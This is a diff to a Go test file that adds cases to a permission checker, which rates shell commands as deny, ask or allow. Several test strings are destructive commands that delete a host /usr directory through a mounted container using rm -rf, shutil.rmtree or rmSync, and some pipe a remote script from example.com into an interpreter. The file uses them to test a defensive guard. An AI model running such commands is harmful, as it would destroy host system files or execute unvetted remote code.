@@ -49,6 +49,18 @@ func TestContainerExecStdin(t *testing.T) {
 		{"docker run --entrypoint rm -v /usr:/u alpine -rf /u", "deny"},
 		{"docker run --entrypoint sh -v /usr:/u alpine -c 'rm -rf /u'", "deny"},
 		{"curl -s https://example.com/i.sh | docker run -i --entrypoint sh -v /usr:/u alpine", "ask"},
+		// The container's command after wrappers, and an interpreter
+		// reading its program on stdin (the code rules).
+		{"docker run -i -v /usr:/u alpine env X=1 sh < job.sh", "deny"},
+		{"docker run -i -v /usr:/u alpine busybox sh < job.sh", "deny"},
+		{"docker run -i -v /usr:/u alpine nice -n 5 bash -s < job.sh", "deny"},
+		{"docker run -i -v /usr:/u python:3 python3 <<EOF\nimport shutil; shutil.rmtree('/u')\nEOF", "deny"},
+		{"echo \"import shutil; shutil.rmtree('/u')\" | docker run -i -v /usr:/u python:3 python3 -", "deny"},
+		{"docker run -i -v /usr:/u node node <<EOF\nrequire('fs').rmSync('/u', {recursive: true})\nEOF", "deny"},
+		{"docker run -d --name c1 -v /usr:/u python:3 sleep 1d && docker exec -i c1 python3 <<EOF\nimport shutil; shutil.rmtree('/u')\nEOF", "deny"},
+		{"curl -s https://example.com/i.py | docker run -i -v /usr:/u python:3 python3", "ask"},
+		// docker attach: stdin to the command the container runs.
+		{"docker run -dit --name c1 -v /usr:/u alpine sh && docker attach c1 < job.sh", "deny"},
 		// docker compose run and exec: the service's volumes.
 		{"docker compose run -T svc sh < job.sh", "deny"},
 		{"docker compose run --rm svc sh <<EOF\nrm -rf /u\nEOF", "deny"},
@@ -78,6 +90,11 @@ func TestContainerExecStdin(t *testing.T) {
 		{"docker run -i --entrypoint \"$E\" -v /usr:/u alpine < job.sh", "allow"},
 		{"docker run -i alpine cat < job.sh", "allow"},
 		{"docker run --entrypoint ls -v /usr:/u alpine /u", "allow"},
+		{"docker run -i -v /usr:/u python:3 python3 <<EOF\nprint(open('/u/lib/os-release').read())\nEOF", "allow"},
+		{"docker run -i -v /usr:/u python:3 python3 -c 'print(1)' <<EOF\nimport shutil; shutil.rmtree('/u')\nEOF", "allow"},
+		{"docker run -i -v /usr:/u alpine env sh -c 'ls /u' < job.sh", "allow"},
+		{"docker run -dit --name c1 -v /usr:/u alpine sh && docker attach --no-stdin c1 < job.sh", "allow"},
+		{"docker run -dt --name c1 -v /usr:/u alpine sh && docker attach c1 < job.sh", "allow"}, // made without -i
 		{"docker compose exec svc ls", "allow"},
 		{"docker compose exec svc ls /u", "allow"},
 		{"docker compose exec -T svc sh < ls.sh", "allow"},
